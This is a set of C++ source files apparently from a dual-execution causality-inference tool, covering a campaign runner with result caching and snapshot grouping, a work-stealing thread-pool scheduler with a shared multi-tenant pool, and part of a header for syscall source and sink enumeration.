 *    master-vs-slave retired delta (the mutation's causal footprint)
 *    then by retired count.
 *
 * Built only from deterministic counters and merged in query-index
 * order, so the document is byte-identical across worker counts,
 * drivers, and dispatch modes.
 */
std::string siteHeatJson(const CampaignResult &res,
                         const obs::ProfileMeta &meta,
                         std::size_t topSites = 20);

} // namespace ldx::query
