#include "query/campaign.h"

#include <atomic>
#include <utility>

#include "ldx/snapshot.h"
#include "support/diag.h"

namespace ldx::query {

namespace {

CacheKey
keyOf(const CampaignResult &res, const CampaignQuery &q)
{
    CacheKey key;
    key.programHash = res.programHash;
    key.worldHash = res.worldHash;
    key.sourceId = q.cacheSourceId();
    key.policy = core::mutationStrategyName(q.strategy);
    return key;
}

} // namespace

CampaignResult
runCampaign(const ir::Module &module, const os::WorldSpec &world,
            const CampaignConfig &cfg)
{
    if (cfg.jobs < 1)
        fatal("campaign requires jobs >= 1");
    if (cfg.queueCap < 1)
        fatal("campaign requires queue-cap >= 1");
    if (cfg.cacheCapacity < 1)
        fatal("campaign requires cache-cap >= 1");
    if (cfg.policies.empty())
        fatal("campaign requires at least one mutation policy");
    if (cfg.snapshot && cfg.siteProfile)
        fatal("campaign snapshot mode is incompatible with site "
              "profiling (a fork's site counters would miss the "
              "prefix's attribution)");

    obs::Registry fallback;
    obs::Registry *reg = cfg.registry ? cfg.registry : &fallback;
    obs::PhaseTimer timer(cfg.traceSink);

    CampaignResult res;

    // Predecode the module once and share the streams across the
    // baseline run and every query VM (master and slave alike), so a
    // campaign of N queries does not flatten the program 2N+1 times.
    // A caller-provided predecode (e.g. one deserialized from a
    // bytecode image) is reused as-is.
    vm::MachineConfig vm_config = cfg.vmConfig;
    if (vm_config.predecode && !vm_config.predecoded) {
        timer.begin("campaign.predecode");
        auto shared =
            std::make_shared<vm::PredecodedModule>(module);
        shared->decodeAll();
        vm_config.predecoded = std::move(shared);
        timer.end();
    }

    timer.begin("campaign.enumerate");
    EnumerateOptions eopts;
    eopts.sinks = cfg.sinks;
    eopts.eventCap = cfg.eventCap;
    eopts.vmConfig = vm_config;
    res.baseline = enumerateBaseline(module, world, eopts);
    timer.end();

    // Plan: queryable sources x policies, in enumeration order. The
    // query index is the aggregation order — everything downstream is
    // slot-addressed by it, which is what makes the campaign's output
    // independent of scheduling.
    timer.begin("campaign.plan");
    res.programHash = hashProgram(module);
    res.worldHash = hashWorld(world);
    for (const SourceCandidate *src : res.baseline.queryableSources()) {
        for (core::MutationStrategy policy : cfg.policies) {
            CampaignQuery q;
            q.index = res.queries.size();
            q.sourceId = src->id;
            q.sourceResource = src->resource;
            q.spec = src->spec;
            q.spec.offset = cfg.offset;
            q.strategy = policy;
            res.queries.push_back(std::move(q));
        }
    }
    timer.end();

    if (cfg.siteProfile)
        checkInvariant(vm_config.predecode,
                       "site profiling requires predecode");

    res.verdicts.assign(res.queries.size(), std::nullopt);
    res.outcomes.assign(res.queries.size(), RunOutcome{});
    res.fromCache.assign(res.queries.size(), false);
    res.queryProfiles.assign(res.queries.size(), {});

    // Live aggregates: the progress meter and exporter read the
    // planned total while the pool is still draining, so it must be
    // set up front (the campaign.queries.total counter only lands
    // after aggregation).
    reg->gauge("campaign.queries.planned")
        .set(static_cast<double>(res.queries.size()));

    // Probe the cache on this thread; only misses reach the pool.
    // Every query's probe is a span on the pipeline lane; a hit
    // additionally emits the query's terminal `query.cached` marker.
    timer.begin("campaign.probe-cache");
    // Private cache unless the caller provides the process-wide
    // sharded tier (`ldx serve`); either way the probe runs on this
    // thread so only misses reach the pool.
    ResultCache cache(cfg.cacheCapacity,
                      cfg.sharedCache ? std::string() : cfg.cacheDir,
                      reg);
    auto probe = [&](const CacheKey &key) {
        return cfg.sharedCache ? cfg.sharedCache->lookup(key, reg)
                               : cache.lookup(key);
    };
    std::uint64_t probe_hits = 0, probe_misses = 0;
    std::vector<std::size_t> misses;
    for (const CampaignQuery &q : res.queries) {
        // Site profiling bypasses the cache: a cached verdict has no
        // counters, and the heat map must not depend on which queries
        // happened to be warm.
        if (cfg.siteProfile) {
            misses.push_back(q.index);
            continue;
        }
        std::int64_t probe_t0 = obs::nowUs();
        std::optional<QueryVerdict> v = probe(keyOf(res, q));
        obs::emitSpan(cfg.traceSink, "query.probe", q.index,
                      obs::kPipelineLane, probe_t0,
                      obs::nowUs() - probe_t0);
        if (v) {
            ++probe_hits;
            res.verdicts[q.index] = std::move(*v);
            res.fromCache[q.index] = true;
            res.outcomes[q.index].status = RunStatus::Done;
            obs::emitSpan(cfg.traceSink, "query.cached", q.index,
                          obs::kPipelineLane, obs::nowUs(), -1);
            if (cfg.onVerdict)
                cfg.onVerdict(q, *res.verdicts[q.index], true);
        } else {
            ++probe_misses;
            misses.push_back(q.index);
        }
    }
    timer.end();

    timer.begin("campaign.execute");
    obs::Counter &dual_execs = reg->counter("campaign.dual.executions");
    std::atomic<std::uint64_t> ran{0};
    std::vector<std::optional<QueryVerdict>> miss_verdicts(misses.size());
    std::vector<std::vector<SiteHeatEntry>> miss_profiles(misses.size());
    // Snapshot tallies, accumulated by the workers and folded into the
    // registry after the pool drains (campaign.snapshot.*). The prefix
    // instruction count is measured in BOTH modes — per query by a
    // probe-only trigger when snapshot is off, per group by the
    // carrier's capture when on — so the two modes are comparable.
    std::atomic<std::uint64_t> snap_prefix_runs{0};
    std::atomic<std::uint64_t> snap_forks{0};
    std::atomic<std::uint64_t> snap_saved{0};
    std::atomic<std::uint64_t> prefix_instrs{0};
    auto runOne = [&](std::size_t j) {
        const CampaignQuery &q = res.queries[misses[j]];
        core::EngineConfig ecfg;
        ecfg.sinks = cfg.sinks;
        ecfg.driver = cfg.driver;
        ecfg.sources = {q.spec};
        ecfg.strategy = q.strategy;
        ecfg.threaded = cfg.threaded;
        ecfg.vmConfig = vm_config;
        // The per-query deadline is the engine's wall-clock cap; an
        // expired pair surfaces as deadlocked -> TimedOut verdict.
        ecfg.wallClockCap = cfg.deadlineSeconds;
        // Batch mode: skip the forensics ring; `ldx explain` is the
        // tool for digging into one pair.
        ecfg.flightRecorder = false;
        // Each query gets a private engine registry: DualResult's
        // legacy tallies are registry-backed and a shared one would
        // accumulate across queries.
        ecfg.registry = nullptr;
        // Probe (never pauses): measure this query's dual prefix —
        // instructions retired before the mutated source's first touch.
        core::SnapshotTrigger probe;
        probe.key = q.spec.resourceKey();
        probe.pauseOnHit = false;
        ecfg.trigger = &probe;
        obs::SiteCounters master_sites, slave_sites;
        if (cfg.siteProfile) {
            ecfg.masterSites = &master_sites;
            ecfg.slaveSites = &slave_sites;
        }
        dual_execs.inc();
        ran.fetch_add(1, std::memory_order_relaxed);
        core::DualEngine engine(module, world, ecfg);
        core::DualResult r = engine.run();
        if (probe.bothFired())
            prefix_instrs.fetch_add(
                probe.prefixInstrs[0].load(std::memory_order_relaxed) +
                    probe.prefixInstrs[1].load(std::memory_order_relaxed),
                std::memory_order_relaxed);
        miss_verdicts[j] = verdictFromResult(r);
        if (cfg.onVerdict)
            cfg.onVerdict(q, *miss_verdicts[j], false);
        if (cfg.siteProfile) {
            // Compact the dual counters into the hot (fn, idx) set:
            // master cost plus the retired delta against the slave.
            std::vector<SiteHeatEntry> prof;
            for (std::size_t f = 0; f < master_sites.numFns; ++f) {
                const auto &mr = master_sites.retired[f];
                const auto &sr = slave_sites.retired[f];
                for (std::size_t i = 0; i < mr.size(); ++i) {
                    if (!mr[i] && !sr[i])
                        continue;
                    SiteHeatEntry e;
                    e.fn = static_cast<std::uint32_t>(f);
                    e.idx = static_cast<std::uint32_t>(i);
                    e.retired = mr[i];
                    e.syscalls = master_sites.syscalls[f][i];
                    e.sysTicks = master_sites.sysTicks[f][i];
                    e.dRetired = mr[i] > sr[i] ? mr[i] - sr[i]
                                               : sr[i] - mr[i];
                    prof.push_back(e);
                }
            }
            miss_profiles[j] = std::move(prof);
        }
    };
    SchedulerConfig scfg;
    scfg.jobs = cfg.jobs;
    scfg.queueCap = cfg.queueCap;
    scfg.cancel = cfg.cancel;
    scfg.registry = reg;
    scfg.traceSink = cfg.traceSink;
    scfg.shared = cfg.sharedPool;
    std::vector<RunOutcome> pool;
    if (cfg.snapshot) {
        // Snapshot mode: the pool's unit of work is a *group* — the
        // missed policies of one planned source. The plan is
        // source-major, so query index / P identifies the group, and
        // `misses` (query-index order) keeps each group's slots
        // consecutive. The group's `query.exec` span carries its
        // first missed query's index.
        const std::size_t num_policies = cfg.policies.size();
        std::vector<std::vector<std::size_t>> groups;
        std::vector<std::size_t> group_spans;
        for (std::size_t j = 0; j < misses.size(); ++j) {
            std::size_t g = misses[j] / num_policies;
            if (groups.empty() ||
                misses[groups.back().front()] / num_policies != g) {
                groups.emplace_back();
                group_spans.push_back(misses[j]);
            }
            groups.back().push_back(j);
        }
        auto runGroup = [&](std::size_t k) {
            const std::vector<std::size_t> &slots = groups[k];
            const CampaignQuery &q0 = res.queries[misses[slots[0]]];
            core::EngineConfig ecfg;
            ecfg.sinks = cfg.sinks;
            ecfg.driver = cfg.driver;
            ecfg.sources = {q0.spec};
            ecfg.threaded = cfg.threaded;
            ecfg.vmConfig = vm_config;
            ecfg.wallClockCap = cfg.deadlineSeconds;
            ecfg.flightRecorder = false;
            ecfg.registry = nullptr;
            std::vector<core::MutationStrategy> policies;
            policies.reserve(slots.size());
            for (std::size_t j : slots)
                policies.push_back(res.queries[misses[j]].strategy);
            dual_execs.inc(slots.size());
            ran.fetch_add(slots.size(), std::memory_order_relaxed);
            core::SnapshotGroupStats gs;
            std::vector<core::DualResult> results =
                core::runSnapshotGroup(module, world, ecfg, policies,
                                       gs, cfg.chaosDropSnapshotPage);
            for (std::size_t i = 0; i < slots.size(); ++i) {
                miss_verdicts[slots[i]] = verdictFromResult(results[i]);
                if (cfg.onVerdict)
                    cfg.onVerdict(res.queries[misses[slots[i]]],
                                  *miss_verdicts[slots[i]], false);
            }
            snap_prefix_runs.fetch_add(gs.prefixRuns,
                                       std::memory_order_relaxed);
            snap_forks.fetch_add(gs.forks, std::memory_order_relaxed);
            snap_saved.fetch_add(gs.instrsSaved,
                                 std::memory_order_relaxed);
            prefix_instrs.fetch_add(gs.prefixInstrsExecuted,
                                    std::memory_order_relaxed);
        };
        scfg.spanIds = &group_spans;
        std::vector<RunOutcome> gpool =
            runOnPool(groups.size(), runGroup, scfg);
        // Fan each group's outcome back out to its per-query slots.
        pool.resize(misses.size());
        for (std::size_t k = 0; k < groups.size(); ++k)
            for (std::size_t j : groups[k])
                pool[j] = gpool[k];
    } else {
        scfg.spanIds = &misses;
        pool = runOnPool(misses.size(), runOne, scfg);
    }
    timer.end();

    // Fold pool results back into the per-query slots and populate
    // the cache — on this thread, in query-index order, so the cache
    // (and its disk tier) fills deterministically.
    timer.begin("campaign.aggregate");
    for (std::size_t j = 0; j < misses.size(); ++j) {
        std::size_t qi = misses[j];
        res.outcomes[qi] = pool[j];
        if (pool[j].status == RunStatus::Done && miss_verdicts[j]) {
            res.verdicts[qi] = std::move(miss_verdicts[j]);
            if (cfg.sharedCache)
                cfg.sharedCache->store(keyOf(res, res.queries[qi]),
                                       *res.verdicts[qi], reg);
            else
                cache.store(keyOf(res, res.queries[qi]),
                            *res.verdicts[qi]);
            res.queryProfiles[qi] = std::move(miss_profiles[j]);
        }
    }
    // Disposition fold: exactly one campaign.queries.* bump per query
    // (mutually exclusive; they sum to campaign.queries.total), plus
    // the per-query engine tallies folded into campaign.dual.*
    // aggregates. Cancelled queries never reached a worker, so their
    // terminal span marker is emitted here, deterministically.
    obs::Counter &agg_completed =
        reg->counter("campaign.queries.completed");
    obs::Counter &agg_cached = reg->counter("campaign.queries.cached");
    obs::Counter &agg_timed_out =
        reg->counter("campaign.queries.timed_out");
    obs::Counter &agg_cancelled =
        reg->counter("campaign.queries.cancelled");
    obs::Counter &agg_failed = reg->counter("campaign.queries.failed");
    obs::Counter &agg_aligned =
        reg->counter("campaign.dual.aligned_syscalls");
    obs::Counter &agg_diffs =
        reg->counter("campaign.dual.syscall_diffs");
    obs::Counter &agg_findings = reg->counter("campaign.dual.findings");
    for (std::size_t i = 0; i < res.queries.size(); ++i) {
        switch (res.outcomes[i].status) {
          case RunStatus::Done: break;
          case RunStatus::Cancelled: ++res.cancelledQueries; break;
          case RunStatus::Failed: ++res.failedQueries; break;
        }
        if (res.verdicts[i] &&
            res.verdicts[i]->quality == VerdictQuality::TimedOut)
            ++res.timedOutQueries;

        if (res.fromCache[i]) {
            agg_cached.inc();
        } else if (res.outcomes[i].status == RunStatus::Cancelled) {
            agg_cancelled.inc();
            obs::emitSpan(cfg.traceSink, "query.cancelled", i,
                          obs::kPipelineLane, obs::nowUs(), -1);
        } else if (res.outcomes[i].status == RunStatus::Failed) {
            agg_failed.inc();
        } else if (res.verdicts[i] &&
                   res.verdicts[i]->quality ==
                       VerdictQuality::TimedOut) {
            agg_timed_out.inc();
        } else {
            agg_completed.inc();
        }
        if (!res.fromCache[i] && res.verdicts[i]) {
            agg_aligned.inc(res.verdicts[i]->alignedSyscalls);
            agg_diffs.inc(res.verdicts[i]->syscallDiffs);
            agg_findings.inc(res.verdicts[i]->findings);
        }
    }
    res.dualExecutions = ran.load(std::memory_order_relaxed);
    res.snapshotPrefixRuns =
        snap_prefix_runs.load(std::memory_order_relaxed);
    res.snapshotForks = snap_forks.load(std::memory_order_relaxed);
    res.snapshotInstrsSaved = snap_saved.load(std::memory_order_relaxed);
    res.prefixInstrs = prefix_instrs.load(std::memory_order_relaxed);
    reg->counter("campaign.snapshot.prefix_runs")
        .inc(res.snapshotPrefixRuns);
    reg->counter("campaign.snapshot.forks").inc(res.snapshotForks);
    reg->counter("campaign.snapshot.instrs_saved")
        .inc(res.snapshotInstrsSaved);
    reg->counter("campaign.dual.prefix_instrs").inc(res.prefixInstrs);
    res.cacheHits = probe_hits;
    res.cacheMisses = probe_misses;
    // Evictions are per-tenant for a private cache but process-wide
    // for the shared tier (serve.cache.evictions), so a shared-cache
    // campaign reports none of its own.
    res.cacheEvictions = cfg.sharedCache ? 0 : cache.evictions();

    std::vector<const QueryVerdict *> slots(res.queries.size(), nullptr);
    for (std::size_t i = 0; i < res.queries.size(); ++i)
        if (res.verdicts[i])
            slots[i] = &*res.verdicts[i];
    std::vector<std::string> policy_names;
    policy_names.reserve(cfg.policies.size());
    for (core::MutationStrategy p : cfg.policies)
        policy_names.push_back(core::mutationStrategyName(p));
    res.graph = buildGraph(res.baseline, res.queries, slots,
                           policy_names, res.programHash, res.worldHash);
    timer.end();

    reg->counter("campaign.queries.total").inc(res.queries.size());
    reg->gauge("campaign.sources.total")
        .set(static_cast<double>(res.baseline.sources.size()));
    reg->gauge("campaign.sources.queryable")
        .set(static_cast<double>(res.baseline.queryableSources().size()));
    reg->gauge("campaign.sinks.total")
        .set(static_cast<double>(res.baseline.sinks.size()));
    reg->gauge("campaign.graph.edges")
        .set(static_cast<double>(res.graph.edges.size()));

    res.phases = timer.samples();
    return res;
}

} // namespace ldx::query
