#include "query/scheduler.h"

#include <algorithm>
#include <chrono>
#include <exception>
#include <thread>

#include "support/diag.h"

namespace ldx::query {

const char *
runStatusName(RunStatus s)
{
    switch (s) {
      case RunStatus::Done: return "done";
      case RunStatus::Cancelled: return "cancelled";
      case RunStatus::Failed: return "failed";
    }
    return "?";
}

namespace {

/** Shared pool state: per-worker deques plus drain bookkeeping. */
struct Pool
{
    explicit Pool(int jobs) : deques(jobs) {}

    struct WorkerDeque
    {
        std::deque<std::size_t> items;
    };

    std::mutex mutex;
    std::condition_variable workCv;  ///< workers: new work / shutdown
    std::condition_variable roomCv;  ///< submitter: backlog drained
    std::vector<WorkerDeque> deques;
    std::size_t outstanding = 0; ///< submitted, not yet finished
    bool closed = false;         ///< no further submissions

    /**
     * Pop work for @p self: front of its own deque, else steal from
     * the back of the fullest peer. Returns false when no work is
     * available anywhere.
     */
    bool
    pop(int self, std::size_t &item, bool &stolen)
    {
        WorkerDeque &mine = deques[self];
        if (!mine.items.empty()) {
            item = mine.items.front();
            mine.items.pop_front();
            stolen = false;
            return true;
        }
        int victim = -1;
        std::size_t best = 0;
        for (int w = 0; w < static_cast<int>(deques.size()); ++w) {
            if (w == self)
                continue;
            if (deques[w].items.size() > best) {
                best = deques[w].items.size();
                victim = w;
            }
        }
        if (victim < 0)
            return false;
        item = deques[victim].items.back();
        deques[victim].items.pop_back();
        stolen = true;
        return true;
    }
};

} // namespace

std::vector<RunOutcome>
runOnPool(std::size_t count, const std::function<void(std::size_t)> &fn,
          const SchedulerConfig &cfg)
{
    if (cfg.shared)
        return cfg.shared->runTenant(count, fn, cfg);
    if (cfg.jobs < 1)
        fatal("scheduler requires jobs >= 1");
    if (cfg.queueCap < 1)
        fatal("scheduler requires queueCap >= 1");

    std::vector<RunOutcome> outcomes(count);
    Pool pool(cfg.jobs);
    obs::Counter *steals =
        cfg.registry ? &cfg.registry->counter("campaign.sched.steals")
                     : nullptr;
    obs::Counter *completed =
        cfg.registry
            ? &cfg.registry->counter("campaign.sched.completed")
            : nullptr;
    obs::Histogram *latency =
        cfg.registry
            ? &cfg.registry->histogram("campaign.query_seconds",
                                       obs::latencySecondsBounds())
            : nullptr;
    obs::Histogram *queue_wait =
        cfg.registry
            ? &cfg.registry->histogram("campaign.queue_wait_seconds",
                                       obs::latencySecondsBounds())
            : nullptr;
    obs::Gauge *active_gauge =
        cfg.registry
            ? &cfg.registry->gauge("campaign.sched.active_workers")
            : nullptr;

    // Telemetry shared state: submission timestamps (for queue-wait
    // spans) and per-worker busy time (for utilization gauges).
    std::vector<std::int64_t> submit_us(count, 0);
    std::vector<double> busy_seconds(cfg.jobs, 0.0);
    std::atomic<int> active{0};
    auto t_pool = std::chrono::steady_clock::now();

    auto worker = [&](int self) {
        for (;;) {
            std::size_t item = 0;
            bool stolen = false;
            {
                std::unique_lock<std::mutex> lock(pool.mutex);
                pool.workCv.wait(lock, [&] {
                    bool any = false;
                    for (const Pool::WorkerDeque &d : pool.deques)
                        any |= !d.items.empty();
                    return any || pool.closed;
                });
                if (!pool.pop(self, item, stolen)) {
                    if (pool.closed)
                        return;
                    continue;
                }
            }
            if (stolen && steals)
                steals->inc();

            RunOutcome &out = outcomes[item];
            out.worker = self;
            out.startUs = obs::nowUs();
            out.queueWaitSeconds =
                (out.startUs - submit_us[item]) / 1e6;
            if (queue_wait)
                queue_wait->observe(out.queueWaitSeconds);
            std::uint64_t span =
                cfg.spanIds ? (*cfg.spanIds)[item] : item;
            obs::emitSpan(cfg.traceSink, "query.queue-wait", span,
                          obs::kWorkerLaneBase + self,
                          submit_us[item],
                          out.startUs - submit_us[item]);
            if (active_gauge)
                active_gauge->set(
                    active.fetch_add(1, std::memory_order_relaxed) +
                    1);
            auto t0 = std::chrono::steady_clock::now();
            try {
                fn(item);
                out.status = RunStatus::Done;
            } catch (const std::exception &e) {
                out.status = RunStatus::Failed;
                out.error = e.what();
            } catch (...) {
                out.status = RunStatus::Failed;
                out.error = "unknown exception";
            }
            out.seconds = std::chrono::duration<double>(
                              std::chrono::steady_clock::now() - t0)
                              .count();
            busy_seconds[self] += out.seconds;
            obs::emitSpan(cfg.traceSink, "query.exec", span,
                          obs::kWorkerLaneBase + self, out.startUs,
                          static_cast<std::int64_t>(out.seconds *
                                                    1e6));
            if (active_gauge)
                active_gauge->set(
                    active.fetch_sub(1, std::memory_order_relaxed) -
                    1);
            if (latency)
                latency->observe(out.seconds);
            if (completed)
                completed->inc();
            {
                std::lock_guard<std::mutex> lock(pool.mutex);
                --pool.outstanding;
            }
            pool.roomCv.notify_one();
        }
    };

    if (cfg.traceSink) {
        for (int w = 0; w < cfg.jobs; ++w)
            cfg.traceSink->setLaneName(obs::kWorkerLaneBase + w,
                                       "worker-" + std::to_string(w));
    }

    std::vector<std::thread> threads;
    threads.reserve(cfg.jobs);
    for (int w = 0; w < cfg.jobs; ++w)
        threads.emplace_back(worker, w);

    // Submission loop: round-robin into the worker deques, blocking
    // while the backlog is at the admission cap. Cancellation stops
    // submission; already-queued work still runs (graceful drain of
    // the accepted set only — unsubmitted queries stay Cancelled).
    std::uint64_t cancelled = 0;
    {
        int next_worker = 0;
        for (std::size_t i = 0; i < count; ++i) {
            if (cfg.cancel &&
                cfg.cancel->load(std::memory_order_relaxed)) {
                cancelled = count - i;
                break;
            }
            {
                std::unique_lock<std::mutex> lock(pool.mutex);
                pool.roomCv.wait(lock, [&] {
                    return pool.outstanding < cfg.queueCap;
                });
                submit_us[i] = obs::nowUs();
                pool.deques[next_worker].items.push_back(i);
                ++pool.outstanding;
            }
            pool.workCv.notify_one();
            next_worker = (next_worker + 1) % cfg.jobs;
        }
    }
    {
        std::lock_guard<std::mutex> lock(pool.mutex);
        pool.closed = true;
    }
    pool.workCv.notify_all();
    for (std::thread &t : threads)
        t.join();

    if (cfg.registry) {
        cfg.registry->counter("campaign.sched.submitted")
            .inc(count - cancelled);
        cfg.registry->counter("campaign.sched.cancelled").inc(cancelled);
        cfg.registry->gauge("campaign.sched.jobs")
            .set(static_cast<double>(cfg.jobs));
        cfg.registry->gauge("campaign.sched.active_workers").set(0.0);

        // Utilization: busy seconds per worker over the pool's wall
        // time (observability only — never in the campaign output).
        double wall = std::chrono::duration<double>(
                          std::chrono::steady_clock::now() - t_pool)
                          .count();
        double busy_total = 0.0;
        for (int w = 0; w < cfg.jobs; ++w) {
            busy_total += busy_seconds[w];
            cfg.registry
                ->gauge("campaign.sched.worker." +
                        std::to_string(w) + ".busy_seconds")
                .set(busy_seconds[w]);
        }
        cfg.registry->gauge("campaign.sched.utilization")
            .set(wall > 0.0 ? busy_total / (wall * cfg.jobs) : 0.0);
    }
    return outcomes;
}

// ---------------------------------------------------------------
// SharedPool
// ---------------------------------------------------------------

/** One registered campaign: its queue plus its result plumbing. */
struct SharedPool::Tenant
{
    std::deque<std::size_t> items; ///< submitted, not yet started
    const std::function<void(std::size_t)> *fn = nullptr;
    std::vector<RunOutcome> *outcomes = nullptr;
    std::vector<std::int64_t> *submitUs = nullptr;
    const SchedulerConfig *cfg = nullptr;
    std::size_t outstanding = 0; ///< submitted, not yet finished
    bool closed = false;
    std::condition_variable roomCv; ///< submitter: backlog below cap
    std::condition_variable doneCv; ///< submitter: fully drained
};

SharedPool::SharedPool(const Config &cfg)
    : jobs_(cfg.jobs < 1 ? 1 : cfg.jobs), registry_(cfg.registry)
{
    if (registry_)
        registry_->gauge("serve.pool.workers")
            .set(static_cast<double>(jobs_));
    threads_.reserve(jobs_);
    for (int w = 0; w < jobs_; ++w)
        threads_.emplace_back(&SharedPool::workerLoop, this, w);
}

SharedPool::~SharedPool()
{
    {
        std::lock_guard<std::mutex> lock(mutex_);
        shutdown_ = true;
    }
    workCv_.notify_all();
    for (std::thread &t : threads_)
        t.join();
}

std::size_t
SharedPool::tenantCount() const
{
    std::lock_guard<std::mutex> lock(mutex_);
    return tenants_.size();
}

SharedPool::Tenant *
SharedPool::pickTenant()
{
    std::size_t n = tenants_.size();
    for (std::size_t k = 0; k < n; ++k) {
        std::size_t idx = (cursor_ + k) % n;
        if (!tenants_[idx]->items.empty()) {
            // Advance past the served tenant so the next worker
            // visit starts at its neighbour: round-robin fairness.
            cursor_ = (idx + 1) % n;
            return tenants_[idx];
        }
    }
    return nullptr;
}

void
SharedPool::workerLoop(int self)
{
    obs::Gauge *active_gauge =
        registry_ ? &registry_->gauge("serve.pool.active_workers")
                  : nullptr;
    obs::Counter *completed =
        registry_ ? &registry_->counter("serve.pool.completed")
                  : nullptr;
    obs::Gauge *inflight_gauge =
        registry_ ? &registry_->gauge("serve.queries_inflight")
                  : nullptr;

    std::unique_lock<std::mutex> lock(mutex_);
    for (;;) {
        workCv_.wait(lock, [&] {
            return shutdown_ || pickableWork();
        });
        Tenant *t = pickTenant();
        if (!t) {
            if (shutdown_)
                return;
            continue;
        }
        std::size_t item = t->items.front();
        t->items.pop_front();
        const SchedulerConfig &tcfg = *t->cfg;
        RunOutcome &out = (*t->outcomes)[item];
        std::int64_t submitted = (*t->submitUs)[item];
        lock.unlock();

        out.worker = self;
        out.startUs = obs::nowUs();
        out.queueWaitSeconds = (out.startUs - submitted) / 1e6;
        if (tcfg.registry)
            tcfg.registry
                ->histogram("campaign.queue_wait_seconds",
                            obs::latencySecondsBounds())
                .observe(out.queueWaitSeconds);
        std::uint64_t span =
            tcfg.spanIds ? (*tcfg.spanIds)[item] : item;
        obs::emitSpan(tcfg.traceSink, "query.queue-wait", span,
                      obs::kWorkerLaneBase + self, submitted,
                      out.startUs - submitted);
        if (active_gauge)
            active_gauge->set(
                activeWorkers_.fetch_add(1, std::memory_order_relaxed) +
                1);
        auto t0 = std::chrono::steady_clock::now();
        try {
            (*t->fn)(item);
            out.status = RunStatus::Done;
        } catch (const std::exception &e) {
            out.status = RunStatus::Failed;
            out.error = e.what();
        } catch (...) {
            out.status = RunStatus::Failed;
            out.error = "unknown exception";
        }
        out.seconds = std::chrono::duration<double>(
                          std::chrono::steady_clock::now() - t0)
                          .count();
        obs::emitSpan(tcfg.traceSink, "query.exec", span,
                      obs::kWorkerLaneBase + self, out.startUs,
                      static_cast<std::int64_t>(out.seconds * 1e6));
        if (tcfg.registry) {
            tcfg.registry
                ->histogram("campaign.query_seconds",
                            obs::latencySecondsBounds())
                .observe(out.seconds);
            tcfg.registry->counter("campaign.sched.completed").inc();
        }
        if (completed)
            completed->inc();
        if (active_gauge)
            active_gauge->set(
                activeWorkers_.fetch_sub(1, std::memory_order_relaxed) -
                1);

        lock.lock();
        --t->outstanding;
        --inflight_;
        if (inflight_gauge)
            inflight_gauge->set(static_cast<double>(inflight_));
        t->roomCv.notify_one();
        if (t->closed && t->outstanding == 0)
            t->doneCv.notify_all();
    }
}

bool
SharedPool::pickableWork()
{
    for (const Tenant *t : tenants_)
        if (!t->items.empty())
            return true;
    return false;
}

std::vector<RunOutcome>
SharedPool::runTenant(std::size_t count,
                      const std::function<void(std::size_t)> &fn,
                      const SchedulerConfig &cfg)
{
    if (cfg.queueCap < 1)
        fatal("scheduler requires queueCap >= 1");

    std::vector<RunOutcome> outcomes(count);
    std::vector<std::int64_t> submit_us(count, 0);
    Tenant tenant;
    tenant.fn = &fn;
    tenant.outcomes = &outcomes;
    tenant.submitUs = &submit_us;
    tenant.cfg = &cfg;

    if (cfg.traceSink) {
        for (int w = 0; w < jobs_; ++w)
            cfg.traceSink->setLaneName(obs::kWorkerLaneBase + w,
                                       "worker-" + std::to_string(w));
    }

    obs::Gauge *inflight_gauge =
        registry_ ? &registry_->gauge("serve.queries_inflight")
                  : nullptr;

    {
        std::lock_guard<std::mutex> lock(mutex_);
        tenants_.push_back(&tenant);
    }

    // Submission loop: identical admission semantics to the private
    // pool — block while this tenant's backlog is at its queueCap;
    // stop on cancel (queued items still run, unsubmitted stay
    // Cancelled).
    std::uint64_t cancelled = 0;
    for (std::size_t i = 0; i < count; ++i) {
        if (cfg.cancel && cfg.cancel->load(std::memory_order_relaxed)) {
            cancelled = count - i;
            break;
        }
        {
            std::unique_lock<std::mutex> lock(mutex_);
            tenant.roomCv.wait(lock, [&] {
                return tenant.outstanding < cfg.queueCap;
            });
            submit_us[i] = obs::nowUs();
            tenant.items.push_back(i);
            ++tenant.outstanding;
            ++inflight_;
            if (inflight_gauge)
                inflight_gauge->set(static_cast<double>(inflight_));
        }
        workCv_.notify_one();
    }

    {
        std::unique_lock<std::mutex> lock(mutex_);
        tenant.closed = true;
        tenant.doneCv.wait(lock,
                           [&] { return tenant.outstanding == 0; });
        auto it = std::find(tenants_.begin(), tenants_.end(), &tenant);
        if (it != tenants_.end())
            tenants_.erase(it);
        if (cursor_ >= tenants_.size())
            cursor_ = 0;
    }

    if (cfg.registry) {
        cfg.registry->counter("campaign.sched.submitted")
            .inc(count - cancelled);
        cfg.registry->counter("campaign.sched.cancelled")
            .inc(cancelled);
        cfg.registry->gauge("campaign.sched.jobs")
            .set(static_cast<double>(jobs_));
    }
    return outcomes;
}

} // namespace ldx::query
