/**
 * @file
 * Baseline source/sink enumeration for the batch causality-inference
 * engine (`ldx campaign`, docs/CAMPAIGN.md).
 *
 * One native run of the instrumented module records the syscall event
 * stream through a SyscallPort observer (no coupling, no slave — the
 * kernel executes every syscall exactly as a port-less run would).
 * From that stream the enumerator derives:
 *
 *  - candidate *source* events: input-bearing syscalls (read of a
 *    world file, recv from a scripted peer or inbound request, getenv,
 *    and the nondeterminism family time/rdtsc/random/getpid). A source
 *    is *queryable* when the mutation layer can perturb the backing
 *    resource (env var / file / peer script / inbound request present
 *    in the WorldSpec); the nondeterminism sources are enumerated for
 *    completeness but marked non-queryable — the coupling exists to
 *    suppress exactly that noise;
 *  - candidate *sink* events: output syscalls (write/send/print)
 *    whose channel matches the campaign's SinkConfig.
 *
 * Every recorded event carries a stable id: its ordinal in the
 * baseline's deterministic execution order. Because the master of a
 * later dual execution replays the same world with the same
 * deterministic schedule, a finding's (site, cnt) pair maps back onto
 * these ids, letting the aggregator attach causality edges to the
 * concrete baseline events that realized them.
 */
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "ir/ir.h"
#include "ldx/engine.h"
#include "ldx/mutation.h"
#include "os/world.h"

namespace ldx::query {

/** One syscall observed in the baseline run. */
struct BaselineEvent
{
    std::uint64_t id = 0;      ///< ordinal in baseline order (stable)
    int tid = 0;
    std::int64_t sysNo = -1;
    int site = -1;             ///< instrumented static site id
    std::int64_t cnt = 0;      ///< alignment counter at the call
    std::int64_t ret = 0;      ///< kernel return value
    std::string resource;      ///< Kernel::resourceKey ("" when none)
    std::string channel;       ///< sink channel ("" for non-outputs)
    std::uint64_t payloadHash = 0; ///< fnv1a of the sink payload
    ir::SourceLoc loc;
};

/** Input family a source belongs to. */
enum class SourceClass
{
    Env,       ///< getenv
